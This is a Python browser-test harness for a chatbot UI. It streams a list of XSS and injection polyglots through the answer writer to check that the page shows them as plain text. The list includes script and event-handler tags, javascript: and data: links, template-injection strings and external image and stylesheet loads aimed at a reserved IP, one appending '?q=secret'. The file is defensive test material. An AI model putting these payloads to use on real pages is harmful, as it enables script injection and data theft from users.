"""`python -m tests.browser.hostile_server HOME`: the page over a writer that says what an attacker would."""

from __future__ import annotations

import sys
import time
from collections.abc import Iterator
from typing import Any

from bot import assemble
from bot.settings import read_settings
from bot.types import Draft, Queries
from bot.writers.quoting import QuotingWriter
from ui import server

SLOWLY = "slowly"
# Each tries to run `hacked()` or to load something from a foreign host.
POLYGLOTS = [
    "<script>hacked()</script>",
    "<img src=x onerror=hacked()>",
    "<svg/onload=hacked()>",
    "<svg><script>hacked()</script></svg>",
    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
    "<details open ontoggle=hacked()>",
    "<body onload=hacked()>",
    "<a href='javascript:hacked()'>click</a>",
    "[click](javascript:hacked())",
    "[click](data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==)",
    "![x](http://203.0.113.1/a.png)",
    "![x](//203.0.113.1/a.png?q=secret)",
    "![x][1]\n\n[1]: http://203.0.113.1/b.png",
    "<http://203.0.113.1/>",
    "http://203.0.113.1/c",
    "</p><button type='button' class='cite' value='1' onclick='hacked()'>[1]</button>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hacked()>",
    "<noscript><p title='</noscript><img src=x onerror=hacked()>'>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=hacked() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=hacked()//>\\x3e",
    '"><img src=x onerror=hacked()>',
    "'-hacked()-'",
    "{{constructor.constructor('hacked()')()}}",
    "${hacked()}",
    "<style>@import url(http://203.0.113.1/d.css);</style>",
    "<link rel=stylesheet href=http://203.0.113.1/e.css>",
    "<base href=http://203.0.113.1/>",
    "<form action=http://203.0.113.1/><input name=a><button>x</button></form>",
    "&lt;script&gt;hacked()&lt;/script&gt;",
    "&#60;img src=x onerror=hacked()&#62;",
    "event: answer\ndata: {}\n\n",
]


class HostileWriter(QuotingWriter):
    """Says every one of them, and leaves time to interrupt it when it is asked to."""

    def write(self, queries: Queries, *_: Any) -> Iterator[Draft]:
        """As plain statements, which are shown as they are."""
        for text in POLYGLOTS:
            time.sleep(0.5 if SLOWLY in queries.message else 0)
            yield Draft(text, "plain")


if __name__ == "__main__":
    assemble.QuotingWriter = HostileWriter  # type: ignore[misc]
    server.run(read_settings(home=sys.argv[1], port=0), browser=False)
